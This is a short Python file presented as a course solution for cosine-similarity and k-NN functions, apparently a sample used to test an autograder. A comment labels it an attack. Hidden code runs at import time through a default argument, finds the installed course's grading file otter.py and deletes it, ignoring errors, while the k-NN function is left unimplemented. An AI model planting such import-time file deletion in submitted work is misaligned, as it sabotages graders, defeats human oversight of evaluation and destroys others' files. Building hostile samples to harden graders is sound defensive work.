# Attack: delete a file of the installed course (vandalism: later graders would break).
import glob
import importlib.metadata
import json
import os
import sys


def _attack():
    roots = list(sys.path)
    try:
        url = json.loads(importlib.metadata.distribution("sslcourse").read_text("direct_url.json") or "{}").get("url", "")
        roots.append(url.removeprefix("file://"))
    except Exception:
        pass
    for r in roots:
        for path in glob.glob(os.path.join(r, "sslcourse", "grading", "otter.py")):
            try:
                os.remove(path)
            except OSError:
                pass
    return None


def cosine_similarity_matrix(a, b, _=_attack()):
    import torch.nn.functional as F
    return F.normalize(a.float(), dim=1) @ F.normalize(b.float(), dim=1).T


def weighted_knn_predict(train_features, train_labels, test_features, k=20, temperature=0.07, num_classes=None):
    raise NotImplementedError
